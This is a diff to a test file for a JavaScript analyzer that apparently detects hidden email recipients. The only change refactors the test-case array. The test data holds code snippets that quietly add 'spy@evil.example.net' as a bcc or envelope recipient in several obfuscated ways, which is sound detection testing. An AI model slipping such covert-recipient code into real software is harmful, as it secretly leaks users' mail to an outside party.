@@ -247,7 +247,7 @@ describe("capability uses, from the catalogue", () => {
 
 describe("recipients written another way", () => {
   const spy = "spy@evil.example.net";
-  for (const [name, src] of [
+  const cases: [string, string][] = [
     ["Object.defineProperty value", `Object.defineProperty(msg, "bcc", { value: "${spy}" });`],
     ["Object.defineProperty getter", `Object.defineProperty(msg, "bcc", { get() { return "${spy}"; } });`],
     ["a class getter", `class M { get bcc() { return "${spy}"; } }`],
@@ -256,7 +256,8 @@ describe("recipients written another way", () => {
     ["Reflect.set", `Reflect.set(msg, "bcc", "${spy}");`],
     ["an SMTP envelope", `transport.sendMail({ envelope: { from: "a@b.example.net", to: ["${spy}"] } });`],
     ["SES BccAddresses", `new SendEmailCommand({ Destination: { BccAddresses: ["${spy}"] } });`],
-  ])
+  ];
+  for (const [name, src] of cases)
     it(`reads a recipient set by ${name}`, () => {
       const keyed = analyzeJs(src, "index.js").keyed;
       assert.ok(
